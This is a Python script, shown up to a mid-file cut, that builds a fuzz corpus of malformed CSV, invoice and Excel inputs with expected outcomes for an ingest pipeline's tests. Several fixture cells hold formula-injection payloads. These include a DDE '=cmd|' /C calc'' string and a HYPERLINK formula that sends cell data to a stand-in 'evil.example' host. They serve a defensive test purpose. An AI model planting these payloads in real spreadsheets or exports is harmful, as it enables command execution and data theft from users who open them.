"""Generate the ingest fuzz corpus: malformed inputs in every source format, each with what must happen.

    .venv/bin/python tests/fuzz/make_corpus.py [OUT]      # default OUT: tests/fuzz/corpus/ (git-ignored)

Each case is one folder ``OUT/<case>/`` holding the input file(s), and ``OUT/cases.json`` lists every
case: the source declaration (a `SourceSpec` as in params/sources.yaml, path relative to the case
folder), and the expected outcome —

- ``"ingest"``: the source is read; ``records`` is how many records the generator wrote (what a person
  counting the file would call its rows), so that `rows read == records` proves nothing was merged or
  dropped, and ``reasons`` lists reject reasons that must be among the rejects;
- ``"error"``: the source cannot be read; ``error`` is a regex the SourceError/ConfigError message must
  match (it names the file or source and what was expected).

The corpus is re-created from this script (deterministic, no randomness): it is never stored in git.
`tests/test_fuzz.py` generates it into a temporary folder and runs ingest on every case.
"""

from __future__ import annotations

import codecs
import csv
import io
import json
import shutil
import sqlite3
import sys
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

DEFAULT_OUT = Path(__file__).resolve().parent / "corpus"
DNI_LETTERS = "TRWAGMYFPDXBNJZSQVHLCKE"


def nif(n: int) -> str:
    """A valid Spanish DNI (8 digits + control letter)."""
    return f"{n:08d}{DNI_LETTERS[n % 23]}"


# ---------------------------------------------------------------------------------------------------
# The base declarations the cases vary
# ---------------------------------------------------------------------------------------------------

PARTY_HEADER = ["id", "nombre", "apellidos", "nif", "email", "tel", "nacimiento", "iban", "opt_in"]
PARTY_CSV: dict[str, Any] = dict(
    kind="party",
    system="CRM",
    trust_rank=1,
    format="csv",
    path="contacts.csv",
    encoding="utf-8",
    date_format="%d/%m/%Y",
    columns={
        "source_id": "id",
        "given_name": "nombre",
        "family_names": "apellidos",
        "tax_id": "nif",
        "email": "email",
        "phone": "tel",
        "birth_date": "nacimiento",
        "iban": "iban",
        "consent_email": "opt_in",
    },
)
INVOICE_HEADER = ["linea", "cliente", "fecha", "producto", "cantidad", "importe", "cobro"]
INVOICE_CSV: dict[str, Any] = dict(
    kind="transaction",
    system="ERP",
    trust_rank=1,
    format="csv",
    path="facturas.csv",
    encoding="cp1252",
    delimiter=";",
    decimal=",",
    thousands=".",
    date_format="%d/%m/%Y",
    party_source="crm",
    columns={
        "source_id": "linea",
        "party_id": "cliente",
        "date": "fecha",
        "product": "producto",
        "quantity": "cantidad",
        "amount": "importe",
        "paid_date": "cobro",
    },
)
TICKET_HEADER = ["id", "who", "opened", "mins", "csat", "subject"]
TICKETS_XLSX: dict[str, Any] = dict(
    kind="interaction",
    system="Support",
    trust_rank=4,
    format="excel",
    path="tickets.xlsx",
    sheet="Tickets",
    party_source="crm",
    columns={
        "source_id": "id",
        "party_id": "who",
        "opened_at": "opened",
        "handling_minutes": "mins",
        "score": "csat",
        "text": "subject",
    },
    constants={"type": "ticket", "score_type": "csat"},
)
MENTIONS_JSON: dict[str, Any] = dict(
    kind="interaction",
    system="Social",
    trust_rank=6,
    format="json",
    path="mentions.json",
    encoding="utf-8",
    party_source="social_authors",
    columns={
        "source_id": "mention_id",
        "party_id": "author.handle",
        "opened_at": "published_at",
        "text": "text",
        "channel": "network",
    },
    constants={"type": "mention"},
)
ORDERS_JSONL: dict[str, Any] = dict(
    kind="transaction",
    system="Web",
    trust_rank=3,
    format="jsonl",
    path="orders.jsonl",
    encoding="utf-8",
    record_path="items",
    party_source="web_customers",
    columns={
        "source_id": "items.line_id",
        "party_id": "customer.id",
        "order_id": "order_id",
        "date": "created_at",
        "amount": "items.total",
        "quantity": "items.quantity",
    },
    constants={"channel": "web"},
)
WEB_PARTY_JSONL: dict[str, Any] = dict(
    kind="party",
    system="Web",
    trust_rank=3,
    format="jsonl",
    path="orders.jsonl",
    encoding="utf-8",
    columns={
        "source_id": "customer.id",
        "given_name": "customer.first_name",
        "email": "customer.email",
        "phone": "customer.phone",
    },
)
PARTY_PARQUET: dict[str, Any] = dict(
    kind="party",
    system="Loyalty",
    trust_rank=3,
    format="parquet",
    path="members.parquet",
    columns={
        "source_id": "card",
        "given_name": "first",
        "family_names": "last",
        "email": "mail",
        "birth_date": "born",
    },
)
PARTY_SQL: dict[str, Any] = dict(
    kind="party",
    system="Loyalty",
    trust_rank=3,
    format="sql",
    url="sqlite:///${SCV_RAW_DIR}/loyalty.sqlite",
    query="select * from members",
    columns={"source_id": "card", "given_name": "first", "family_names": "last", "email": "mail"},
)


def spec(base: dict[str, Any], **changes: Any) -> dict[str, Any]:
    out = {**base, **changes}
    if "columns" in changes and changes["columns"] is None:
        out["columns"] = base["columns"]
    return {k: v for k, v in out.items() if v is not None or k in ("encoding", "sheet", "date_format")}


# ---------------------------------------------------------------------------------------------------
# Cases
# ---------------------------------------------------------------------------------------------------


@dataclass
class Case:
    name: str
    family: str  # what kind of defect (for the counts)
    spec: dict[str, Any]
    expect: str  # "ingest" | "error"
    content: bytes | None = None  # the file's bytes, written to spec["path"]
    build: Callable[[Path], None] | None = None  # or a builder writing into the case folder
    records: int | None = None  # records written (expect == "ingest")
    reasons: list[str] = field(default_factory=list)  # reject reasons that must appear
    error: str | None = None  # regex the error message must match (expect == "error")
    staged: int | None = None  # exact rows staged, when the case pins it
    #: the exact values staged for a sample of rows: row number -> {canonical column: value as text}
    #: (numbers without a needless ".0", dates ISO, booleans true/false, None for null)
    values: dict[int, dict[str, str | None]] = field(default_factory=dict)
    rejected: dict[int, str] = field(default_factory=dict)  # row number -> a reason it must be rejected with

    def manifest(self) -> dict[str, Any]:
        return {
            "name": self.name,
            "family": self.family,
            "spec": {"name": self.name, **self.spec},
            "expect": self.expect,
            "records": self.records,
            "reasons": self.reasons,
            "error": self.error,
            "staged": self.staged,
            "values": {str(k): v for k, v in self.values.items()},
            "rejected": {str(k): v for k, v in self.rejected.items()},
        }


def party_rows(n: int, start: int = 1) -> list[list[str]]:
    """n valid CRM contact rows."""
    names = [
        ("José", "Prados García"),
        ("Ana", "López de la Fuente"),
        ("Íñigo", "Muñoz Peña"),
        ("María del Carmen", "Ruiz"),
        ("Jordi", "Puig i Ferrer"),
        ("Lucía", "Sánchez-Vela Ortiz"),
    ]
    rows = []
    for i in range(start, start + n):
        given, family = names[i % len(names)]
        rows.append(
            [
                str(i),
                given,
                family,
                nif((10_000_000 + i * 7919) % 90_000_000 + 1_000_000),
                f"user{i}@example.es",
                f"6{i:08d}",
                f"{(i % 27) + 1:02d}/{(i % 12) + 1:02d}/19{50 + i % 50}",
                "",
                "sí" if i % 2 else "no",
            ]
        )
    return rows


def invoice_rows(n: int, start: int = 1) -> list[list[str]]:
    return [
        [
            f"F{i}-1",
            f"C{i % 7}",
            f"{(i % 28) + 1:02d}/10/2026",
            "Café molido",
            str(1 + i % 3),
            f"{i * 3},{i % 100:02d}",
            "",
        ]
        for i in range(start, start + n)
    ]


def csv_text(header: list[str], rows: list[list[str]], delimiter: str = ",", newline: str = "\n") -> str:
    buf = io.StringIO()
    w = csv.writer(buf, delimiter=delimiter, lineterminator=newline)
    w.writerow(header)
    w.writerows(rows)
    return buf.getvalue()


def party_csv(rows: list[list[str]], **kw) -> str:
    return csv_text(PARTY_HEADER, rows, **kw)


def invoice_csv(rows: list[list[str]]) -> str:
    return csv_text(INVOICE_HEADER, rows, delimiter=";")


def csv_cases() -> list[Case]:
    cases: list[Case] = []
    good = party_csv(party_rows(5))
    utf8 = good.encode("utf-8")

    def add(
        name, family, content, expect="ingest", records=None, reasons=(), error=None, staged=None, **spec_kw
    ):
        cases.append(
            Case(
                name,
                family,
                spec(PARTY_CSV, **spec_kw),
                expect,
                content=content,
                records=records,
                reasons=list(reasons),
                error=error,
                staged=staged,
            )
        )

    # --- encodings and BOMs
    add("csv_control_valid", "control", utf8, records=5, staged=5)
    add("csv_bom_utf8_declared", "encoding", codecs.BOM_UTF8 + utf8, records=5, staged=5)
    add("csv_bom_utf8_undeclared", "encoding", codecs.BOM_UTF8 + utf8, records=5, staged=5, encoding=None)
    add("csv_utf16le_bom_undeclared", "encoding", good.encode("utf-16"), records=5, staged=5, encoding=None)
    add(
        "csv_utf16be_bom_undeclared",
        "encoding",
        codecs.BOM_UTF16_BE + good.encode("utf-16-be"),
        records=5,
        staged=5,
        encoding=None,
    )
    add(
        "csv_utf16le_no_bom_undeclared",
        "encoding",
        good.encode("utf-16-le"),
        records=5,
        staged=5,
        encoding=None,
    )
    add("csv_cp1252_declared", "encoding", good.encode("cp1252"), records=5, staged=5, encoding="cp1252")
    add("csv_cp1252_undeclared", "encoding", good.encode("cp1252"), records=5, staged=5, encoding=None)
    add(
        "csv_cp1252_declared_utf8",
        "encoding",
        good.encode("cp1252"),
        expect="error",
        error=r"csv_cp1252_declared_utf8/contacts\.csv: cannot decode as 'utf-8' at byte \d+ \(line \d+\)",
    )
    add("csv_latin1_undeclared", "encoding", good.encode("latin-1"), records=5, staged=5, encoding=None)
    mixed = (
        party_csv(party_rows(3)).encode("utf-8")
        + "\n".join(",".join(r) for r in party_rows(2, start=4)).encode("cp1252")
        + b"\n"
    )
    add("csv_mixed_utf8_cp1252_undeclared", "encoding", mixed, records=5, staged=5, encoding=None)
    add(
        "csv_mixed_utf8_cp1252_declared_utf8",
        "encoding",
        mixed,
        expect="error",
        error=r"cannot decode as 'utf-8' at byte \d+ \(line 6\)",
    )
    add(
        "csv_unknown_encoding_declared",
        "encoding",
        utf8,
        expect="error",
        error=r"unknown encoding 'utf-9'",
        encoding="utf-9",
    )
    add(
        "csv_utf8_declared_utf16",
        "encoding",
        utf8,
        expect="error",
        error=r"cannot decode as 'utf-16'",
        encoding="utf-16",
    )
    add(
        "csv_bom_utf8_declared_cp1252",
        "encoding",
        codecs.BOM_UTF8 + utf8,
        records=5,
        staged=5,  # every line is UTF-8 (with its mark): read as such, never as cp1252 mojibake
        encoding="cp1252",
    )
    ascii_rows = party_csv([[c.encode("ascii", "ignore").decode() for c in r] for r in party_rows(3)])
    add(
        "csv_bom_utf8_declared_latin1",
        "encoding",
        codecs.BOM_UTF8 + ascii_rows.encode(),
        records=3,
        staged=3,  # the first line is UTF-8 (its mark): read as such, not as "ï»¿id"
        encoding="latin-1",
    )
    truncated_mb = utf8 + "7,Íñ".encode()[:-1]  # file cut inside a multi-byte character
    add(
        "csv_truncated_multibyte_declared",
        "encoding",
        truncated_mb,
        expect="error",
        error=r"cannot decode as 'utf-8' at byte \d+ \(line 7\)",
    )

    # --- ragged rows, quoting, line endings
    rows = party_rows(6)
    ragged = (
        party_csv(rows[:2])
        + "3,Ana,Ruiz\n"
        + ",".join(rows[3] + ["extra", "cols"])
        + "\n"
        + "\n".join(",".join(r) for r in rows[4:])
        + "\n"
    )
    add("csv_ragged_rows", "ragged", ragged.encode(), records=6, staged=4, reasons=["malformed_row"])
    quoted_nl = party_rows(3)
    quoted_nl[1][2] = "López\nde la Fuente"
    add("csv_quoted_newline", "quoting", party_csv(quoted_nl).encode(), records=3, staged=3)
    add(
        "csv_quoted_newline_crlf",
        "quoting",
        party_csv(quoted_nl, newline="\r\n").encode(),
        records=3,
        staged=3,
    )
    add(
        "csv_cr_only_line_endings",
        "quoting",
        party_csv(party_rows(4), newline="\r").encode(),
        records=4,
        staged=4,
    )
    mixed_endings = (
        "id,nombre,apellidos,nif,email,tel,nacimiento,iban,opt_in\r\n"
        + "\n".join(",".join(r) for r in party_rows(2))
        + "\r\n"
        + ",".join(party_rows(1, start=3)[0])
        + "\r"
    )
    add("csv_mixed_line_endings", "quoting", mixed_endings.encode(), records=3, staged=3)
    esc = party_rows(2)
    esc[0][1] = 'He said "hola", twice'
    add("csv_escaped_quotes", "quoting", party_csv(esc).encode(), records=2, staged=2)
    stray = party_csv(party_rows(2)) + '3,An"a,Ruiz,,,,,,\n' + ",".join(party_rows(1, start=4)[0]) + "\n"
    add("csv_stray_quote_mid_field", "quoting", stray.encode(), records=4, staged=4)
    # a field opens a quote that never closes: Python's csv would swallow the rest of the file into it
    unterminated = (
        party_csv(party_rows(2))
        + '3,"Ana,Ruiz,,,,,,\n'
        + "\n".join(",".join(r) for r in party_rows(3, start=4))
        + "\n"
    )
    add(
        "csv_unterminated_quote_mid_file",
        "quoting",
        unterminated.encode(),
        records=6,
        reasons=["malformed_row"],
    )
    # a quote opened in row 3 and closed in row 5 merges three rows into a ragged record: each line is
    # quarantined (no way to tell which of them are good)
    closes_later = (
        party_csv(party_rows(2))
        + '3,"Ana,Ruiz,,,,,,\n4,x,y,,,,,,\n5,z,w",,,,,,\n'
        + ",".join(party_rows(1, start=6)[0])
        + "\n"
    )
    add(
        "csv_quote_closes_rows_later",
        "quoting",
        closes_later.encode(),
        records=6,
        staged=3,
        reasons=["malformed_row"],
    )
    # the documented limit: when the quote closes in the same column it opened in, the merged record has
    # the right width and reads exactly like a legitimate quoted field with line breaks, so it is one
    # record (the lines it holds are in its value, not lost, but counted as one row)
    same_column = (
        party_csv(party_rows(2))
        + '3,"Ana,Ruiz,,,,,,\n4,x,y,,,,,,\n5,z",w,,,,,,\n'
        + ",".join(party_rows(1, start=6)[0])
        + "\n"
    )
    add("csv_quote_closes_rows_later_same_column", "quoting", same_column.encode(), records=4, staged=4)
    add(
        "csv_blank_lines_between",
        "ragged",
        (party_csv(party_rows(2)) + "\n\n" + ",".join(party_rows(1, start=3)[0]) + "\n\n").encode(),
        records=3,
        staged=3,
    )
    add(
        "csv_whitespace_only_line",
        "ragged",
        (party_csv(party_rows(2)) + "   \n").encode(),
        records=3,
        staged=2,
        reasons=["malformed_row"],
    )
    add(
        "csv_only_delimiters_row",
        "ragged",
        (party_csv(party_rows(2)) + ",,,,,,,,\n").encode(),
        records=3,
        staged=2,
        reasons=["missing_required"],
    )
    add(
        "csv_trailing_delimiter_everywhere",
        "ragged",
        "\n".join(",".join(r) + "," for r in [PARTY_HEADER, *party_rows(3)]).encode() + b"\n",
        records=3,
        staged=3,
    )
    add(
        "csv_trailing_delimiter_rows_only",
        "ragged",
        ("\n".join([",".join(PARTY_HEADER), *(",".join(r) + "," for r in party_rows(3))]) + "\n").encode(),
        records=3,
        staged=0,
        reasons=["malformed_row"],
    )
    add(
        "csv_nul_bytes",
        "ragged",
        party_csv(party_rows(2)).replace("Prados", "Pra\x00dos").encode(),
        records=2,
        staged=2,
    )
    add(
        "csv_delimiter_mismatch",
        "ragged",
        utf8.replace(b",", b";"),
        expect="error",
        error=r"contacts\.csv: column\(s\) \[.*\] not found .*the source has",
    )
    add(
        "csv_tab_delimited",
        "ragged",
        party_csv(party_rows(3), delimiter="\t").encode(),
        records=3,
        staged=3,
        delimiter="\t",
    )

    # --- headers
    dup = (
        "id,nombre,apellidos,nif,email,email,tel,nacimiento,iban,opt_in\n"
        + "\n".join(",".join(r[:5] + [f"other{i}@example.es"] + r[5:]) for i, r in enumerate(party_rows(3)))
        + "\n"
    )
    add(
        "csv_duplicate_header",
        "header",
        dup.encode(),
        expect="error",
        error=r"the header names 2 columns 'email' \(columns 5, 6\) and they differ \(first at record 1\); "
        r"sources\.csv_duplicate_header\.columns maps 'email'.*map 'email\.0' for the first one or 'email\.1' "
        r"for the second",
    )
    same = (
        "id,nombre,apellidos,nif,email,email,tel,nacimiento,iban,opt_in\n"
        + "\n".join(",".join(r[:5] + [r[4]] + r[5:]) for r in party_rows(3))
        + "\n"
    )
    add("csv_duplicate_header_same_values", "header", same.encode(), records=3, staged=3)
    add(
        "csv_duplicate_header_second_mapped",
        "header",
        dup.encode(),
        records=3,
        staged=3,
        columns={**PARTY_CSV["columns"], "email": "email.1"},
    )
    add(
        "csv_missing_header",
        "header",
        "\n".join(",".join(r) for r in party_rows(3)).encode(),
        expect="error",
        error=r"column\(s\) \[.*'nombre'.*\] not found",
    )
    add(
        "csv_header_blank_names",
        "header",
        (
            "id,nombre,apellidos,nif,email,tel,nacimiento,iban,opt_in,,\n"
            + "\n".join(",".join(r + ["a", "b"]) for r in party_rows(2))
            + "\n"
        ).encode(),
        records=2,
        staged=2,
    )
    add(
        "csv_header_all_empty",
        "header",
        (",,,,,,,,\n" + "\n".join(",".join(r) for r in party_rows(2))).encode(),
        expect="error",
        error=r"contacts\.csv: the header row is empty",
    )
    add(
        "csv_header_whitespace_and_case",
        "header",
        utf8.replace(b"nombre", b" nombre ").replace(b"email", b"EMAIL"),
        expect="error",
        error=r"column\(s\) \['email'\] not found",
    )
    add("csv_empty_file", "empty", b"", expect="error", error=r"contacts\.csv: the file is empty")
    add("csv_only_newlines", "empty", b"\n\n\r\n", expect="error", error=r"the file is empty")
    add("csv_only_bom", "empty", codecs.BOM_UTF8, expect="error", error=r"the file is empty")
    add("csv_header_only", "empty", (",".join(PARTY_HEADER) + "\n").encode(), records=0, staged=0)
    add("csv_header_only_no_newline", "empty", ",".join(PARTY_HEADER).encode(), records=0, staged=0)

    # --- truncation
    full = party_csv(party_rows(4))
    add(
        "csv_truncated_mid_row",
        "truncated",
        full[: full.rfind(",", 0, len(full) - 20)].encode(),
        records=4,
        staged=3,
        reasons=["malformed_row"],
    )
    cut_quoted = party_csv(party_rows(3)) + '4,Ana,"López\nde la'
    add(
        "csv_truncated_inside_quoted_field",
        "truncated",
        cut_quoted.encode(),
        records=4,
        staged=3,
        reasons=["malformed_row"],
    )
    cut_last_quoted = party_csv(party_rows(3)) + '4,Ana,Ruiz,,,,,,"s'
    add(
        "csv_truncated_last_field_quoted",
        "truncated",
        cut_last_quoted.encode(),
        records=4,
        staged=3,
        reasons=["malformed_row"],
    )
    add(
        "csv_truncated_header",
        "truncated",
        b"id,nombre,apel",
        expect="error",
        error=r"column\(s\) .* not found",
    )

    # --- huge fields and files
    huge = party_rows(3)
    huge[1][2] = "García " * 300_000  # ~2 MB in one cell
    add("csv_huge_field", "huge", party_csv(huge).encode(), records=3, staged=2, reasons=["field_too_long"])
    huge_bad = party_rows(3)
    huge_bad[1][3] = "9" * 1_000_000  # a 1 MB tax id: rejected, and the reject keeps at most 500 chars
    add(
        "csv_huge_invalid_field",
        "huge",
        party_csv(huge_bad).encode(),
        records=3,
        staged=2,
        reasons=["field_too_long"],
    )
    add(
        "csv_huge_line_no_newline",
        "huge",
        (",".join(PARTY_HEADER) + "\n" + "x" * 3_000_000).encode(),
        records=1,
        staged=0,
        reasons=["malformed_row"],
    )
    wide_header = PARTY_HEADER + [f"extra_{i}" for i in range(3000)]
    add(
        "csv_three_thousand_columns",
        "huge",
        csv_text(wide_header, [r + ["v"] * 3000 for r in party_rows(3)]).encode(),
        records=3,
        staged=3,
    )
    add(
        "csv_twenty_thousand_rows",
        "huge",
        party_csv(party_rows(20_000)).encode(),
        records=20_000,
        staged=20_000,
    )

    # --- wrong types, dates, numbers
    wrong = party_rows(5)
    wrong[0][3] = "12345678"  # DNI without letter: completed, not rejected
    wrong[1][3] = "NOT-A-NIF"
    wrong[2][4] = "12345"
    wrong[3][6] = "yesterday"
    wrong[4][8] = "maybe"
    add(
        "csv_wrong_types_party",
        "types",
        party_csv(wrong).encode(),
        records=5,
        staged=5,
        reasons=["invalid_tax_id", "invalid_email", "invalid_date", "invalid_bool"],
    )
    dates = party_rows(6)
    for row, value in zip(
        dates, ["01/02/1980", "1980-02-01", "Feb 1 1980", "1.2.80", "31/02/1980", "00/00/0000"], strict=True
    ):
        row[6] = value
    add(
        "csv_dates_mixed_formats_declared",
        "dates",
        party_csv(dates).encode(),
        records=6,
        staged=6,
        reasons=["invalid_date"],
    )
    add(
        "csv_dates_mixed_formats_iso_expected",
        "dates",
        party_csv(dates).encode(),
        records=6,
        staged=6,
        reasons=["invalid_date"],
        date_format=None,
    )
    add(
        "csv_birth_dates_out_of_range",
        "dates",
        party_csv(
            [
                r[:6] + [d] + r[7:]
                for r, d in zip(party_rows(3), ["01/01/1066", "01/01/2999", "15/06/1990"], strict=True)
            ]
        ).encode(),
        records=3,
        staged=3,
        reasons=["date_out_of_range"],
    )
    ids = party_rows(3)
    ids[1][3] = "12345678\u200bZ"  # a zero-width space inside the tax id
    ids[2][1] = "Jose\u0301 Luis"  # decomposed accent (NFD)
    add("csv_invisible_and_nfd_characters", "types", party_csv(ids).encode(), records=3, staged=3)
    emoji = party_rows(2)
    emoji[0][1] = "Ana 🌻"
    emoji[1][2] = "\u202eRuiz"  # right-to-left override
    add("csv_emoji_and_bidi", "types", party_csv(emoji).encode(), records=2, staged=2)

    # --- formula injection in cells (kept as data; escaped when exported as CSV)
    formulas = party_rows(6)
    formulas[0][1] = "=cmd|' /C calc'!A0"
    formulas[1][2] = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    formulas[2][1] = "+1+1"
    formulas[3][2] = "@SUM(A1:A9)"
    formulas[4][1] = "\t=1+2"
    formulas[5][0] = "=1+1"  # in the record id itself
    add("csv_formula_injection_cells", "formula", party_csv(formulas).encode(), records=6, staged=6)
    formula_email = party_rows(2)
    formula_email[0][4] = "=cmd|'/C calc'!A0@example.es"
    formula_email[1][5] = "-2+3"
    add(
        "csv_formula_injection_contact_fields",
        "formula",
        party_csv(formula_email).encode(),
        records=2,
        staged=2,
        reasons=["invalid_email", "invalid_phone"],
    )
    add(
        "csv_duplicate_rows",
        "ragged",
        party_csv(party_rows(3) + party_rows(2)).encode(),
        records=5,
        staged=3,
        reasons=["duplicate_row"],
    )
    return cases


def invoice_cases() -> list[Case]:
    cases: list[Case] = []

    def add(
        name,
        family,
        rows_or_text,
        expect="ingest",
        records=None,
        reasons=(),
        error=None,
        staged=None,
        encoding="cp1252",
        **spec_kw,
    ):
        text = rows_or_text if isinstance(rows_or_text, str) else invoice_csv(rows_or_text)
        cases.append(
            Case(
                name,
                family,
                spec(INVOICE_CSV, **spec_kw),
                expect,
                content=text.encode(encoding),
                records=records,
                reasons=list(reasons),
                error=error,
                staged=staged,
            )
        )

    add("inv_control_valid", "control", invoice_rows(4), records=4, staged=4)
    mix = invoice_rows(8)
    for row, amount in zip(
        mix,
        ["1.234,50", "1,234.50", "1234.5", "1 234,50", "12,50 €", "€12,50", "(12,50)", "12,5,0"],
        strict=True,
    ):
        row[5] = amount
    add("inv_decimal_comma_point_mix", "numbers", mix, records=8, reasons=["invalid_number"])
    point = invoice_rows(4)
    for row, amount in zip(point, ["1,234.50", "1.234,50", "12.5", "12,5"], strict=True):
        row[5] = amount
    add(
        "inv_decimal_point_declared",
        "numbers",
        point,
        records=4,
        reasons=["invalid_number"],
        decimal=".",
        thousands=",",
    )
    weird = invoice_rows(8)
    for row, amount in zip(
        weird, ["NaN", "inf", "-Infinity", "1e400", "1e5", "−12,50", "12,50-", "0x1F"], strict=True
    ):
        row[5] = amount
    add(
        "inv_non_finite_and_exotic_numbers",
        "numbers",
        weird,
        records=8,
        reasons=["invalid_number"],
        encoding="utf-8",
    )
    qty = invoice_rows(4)
    qty[0][4], qty[1][4], qty[2][4], qty[3][4] = "-1", "dos", "1,5", ""
    add("inv_bad_quantities", "numbers", qty, records=4, reasons=["negative_quantity", "invalid_number"])
    dates = invoice_rows(6)
    for row, value in zip(
        dates, ["05/10/2026", "2026-10-05", "5/10/26", "10/05/2026 10:00", "", "31/09/2026"], strict=True
    ):
        row[2] = value
    add(
        "inv_dates_mixed_formats_required",
        "dates",
        dates,
        records=6,
        reasons=["invalid_date", "missing_required"],
    )
    paid = invoice_rows(3)
    paid[0][6], paid[1][6], paid[2][6] = "ayer", "32/13/2026", "2026/10/05"
    add("inv_optional_dates_invalid", "dates", paid, records=3, staged=3, reasons=["invalid_date"])
    missing = invoice_rows(4)
    missing[0][0], missing[1][1], missing[2][5] = "", "", ""
    add("inv_missing_required_fields", "types", missing, records=4, staged=1, reasons=["missing_required"])
    add(
        "inv_excel_formula_amounts",
        "formula",
        [r[:5] + ["=SUM(A1:A3)"] + r[6:] for r in invoice_rows(2)],
        records=2,
        staged=0,
        reasons=["invalid_number"],
    )
    add("inv_utf8_declared_cp1252", "encoding", invoice_rows(3), records=3, staged=3, encoding="utf-8")
    add("inv_header_only", "empty", ";".join(INVOICE_HEADER) + "\r\n", records=0, staged=0)
    add(
        "inv_comma_delimited_declared_semicolon",
        "ragged",
        csv_text(INVOICE_HEADER, invoice_rows(2)),
        expect="error",
        error=r"facturas\.csv: column\(s\) .* not found",
    )
    return cases


# ---------------------------------------------------------------------------------------------------
# Excel
# ---------------------------------------------------------------------------------------------------


def ticket_rows(n: int) -> list[list[Any]]:
    import datetime as dt

    return [
        [
            f"T{i}",
            f"C{i % 5}",
            dt.datetime(2026, 10, 1 + i % 28, 9, 30),
            12.5 + i,
            1 + i % 5,
            f"Pedido {i} no llegó",
        ]
        for i in range(1, n + 1)
    ]


def _workbook(
    path: Path,
    sheets: dict[str, list[list[Any]]],
    merges: dict[str, list[str]] | None = None,
    formulas: dict[str, dict[str, str]] | None = None,
) -> None:
    from openpyxl import Workbook

    wb = Workbook()
    wb.remove(wb.active)
    for name, rows in sheets.items():
        ws = wb.create_sheet(name)
        for row in rows:
            ws.append(row)
        for rng in (merges or {}).get(name, []):
            ws.merge_cells(rng)
        for cell, formula in (formulas or {}).get(name, {}).items():
            ws[cell] = formula
    wb.save(path)


def excel_cases() -> list[Case]:
    cases: list[Case] = []

    def rows_():  # fresh lists: cases edit their own copy
        return ticket_rows(5)

    rows = rows_()

    def add(
        name,
        family,
        build=None,
        content=None,
        expect="ingest",
        records=None,
        reasons=(),
        error=None,
        staged=None,
        **spec_kw,
    ):
        cases.append(
            Case(
                name,
                family,
                spec(TICKETS_XLSX, **spec_kw),
                expect,
                content=content,
                build=build,
                records=records,
                reasons=list(reasons),
                error=error,
                staged=staged,
            )
        )

    def book(sheets, merges=None, formulas=None):
        return lambda folder: _workbook(folder / "tickets.xlsx", sheets, merges, formulas)

    add("xlsx_control_valid", "control", book({"Tickets": [TICKET_HEADER, *rows]}), records=5, staged=5)
    add(
        "xlsx_extra_sheets_named",
        "excel",
        book(
            {
                "Cover": [["Support export"], ["generated today"]],
                "Tickets": [TICKET_HEADER, *rows],
                "Pivot": [["x", 1]],
            }
        ),
        records=5,
        staged=5,
    )
    add(
        "xlsx_extra_sheets_sheet_not_declared",
        "excel",
        book({"Cover": [["Support export"]], "Tickets": [TICKET_HEADER, *rows]}),
        expect="error",
        error=r"tickets\.xlsx.*column\(s\) .* not found",
        sheet=None,
    )
    add(
        "xlsx_wrong_sheet_name",
        "excel",
        book({"Tickets": [TICKET_HEADER, *rows]}),
        expect="error",
        error=r"no sheet 'Tikets'.*Tickets",
        sheet="Tikets",
    )
    add(
        "xlsx_sheet_index_out_of_range",
        "excel",
        book({"Tickets": [TICKET_HEADER, *rows]}),
        expect="error",
        error=r"tickets\.xlsx: no sheet number 3",
        sheet=3,
    )
    add(
        "xlsx_sheet_index_valid",
        "excel",
        book({"Cover": [["x"]], "Tickets": [TICKET_HEADER, *rows]}),
        records=5,
        staged=5,
        sheet=1,
    )
    add(
        "xlsx_merged_title_above_header",
        "excel",
        book(
            {"Tickets": [["Support tickets October"] + [None] * 5, TICKET_HEADER, *rows]},
            {"Tickets": ["A1:F1"]},
        ),
        expect="error",
        error=r"column\(s\) .* not found",
    )
    merged_data = [TICKET_HEADER, *rows_()]
    merged_data[3][1] = (
        None  # C2 merged down over rows 2-4 of the 'who' column: only the first cell holds a value
    )
    merged_data[4][1] = None
    add(
        "xlsx_merged_cells_in_data",
        "excel",
        book({"Tickets": merged_data}, {"Tickets": ["B3:B5"]}),
        records=5,
        staged=3,
        reasons=["missing_required"],
    )
    add(
        "xlsx_merged_header_cells",
        "excel",
        book({"Tickets": [TICKET_HEADER[:5] + [None], *[r + ["x"] for r in rows]]}, {"Tickets": ["E1:F1"]}),
        records=5,
        staged=5,
        columns={
            "source_id": "id",
            "party_id": "who",
            "opened_at": "opened",
            "handling_minutes": "mins",
            "score": "csat",
        },
    )
    add(
        "xlsx_empty_sheet",
        "empty",
        book({"Tickets": []}),
        expect="error",
        error=r"tickets\.xlsx: the header row is empty",
    )
    add("xlsx_header_only", "empty", book({"Tickets": [TICKET_HEADER]}), records=0, staged=0)
    blank_rows = [TICKET_HEADER, rows[0], [None] * 6, rows[1], [None] * 6, [None] * 6, rows[2]]
    add("xlsx_blank_rows_between", "excel", book({"Tickets": blank_rows}), records=3, staged=3)
    wrong = [TICKET_HEADER, *[list(r) for r in rows]]
    wrong[1][2], wrong[2][3], wrong[3][4], wrong[4][2] = (
        "not a date",
        "doce",
        "five",
        46300,
    )  # an Excel serial
    add(
        "xlsx_wrong_types",
        "types",
        book({"Tickets": wrong}),
        records=5,
        staged=5,
        reasons=["invalid_date", "invalid_number"],
    )
    dup_hdr = ["id", "who", "opened", "mins", "mins", "csat", "subject"]
    add(
        "xlsx_duplicate_headers",
        "header",
        book({"Tickets": [dup_hdr, *[r[:4] + [0] + r[4:] for r in rows]]}),
        expect="error",
        error=r"the header names 2 columns 'mins' \(columns 4, 5\) and they differ.*map 'mins\.0' for the "
        r"first one or 'mins\.1' for the second",
    )
    add(
        "xlsx_duplicate_headers_first_chosen",
        "header",
        book({"Tickets": [dup_hdr, *[r[:4] + [0] + r[4:] for r in rows]]}),
        records=5,
        staged=5,
        columns={**TICKETS_XLSX["columns"], "handling_minutes": "mins.0"},
    )
    numeric_hdr = [[1, 2, 3], [4, 5, 6]]
    add(
        "xlsx_numeric_header_no_match",
        "header",
        book({"Tickets": numeric_hdr}),
        expect="error",
        error=r"column\(s\) .* not found.*the source has",
    )
    formula_rows = [TICKET_HEADER, *[list(r) for r in rows[:3]]]
    formula_rows[1][5] = "=cmd|' /C calc'!A0"  # a text cell holding a formula string
    add(
        "xlsx_formula_text_cells",
        "formula",
        book({"Tickets": formula_rows}, formulas={"Tickets": {"D3": "=1/0"}}),
        records=3,
        staged=3,
    )
    long_text = [TICKET_HEADER, *[list(r) for r in rows[:2]]]
    long_text[1][5] = "x" * 32_000
    add("xlsx_long_cell", "huge", book({"Tickets": long_text}), records=2, staged=2)
    add(
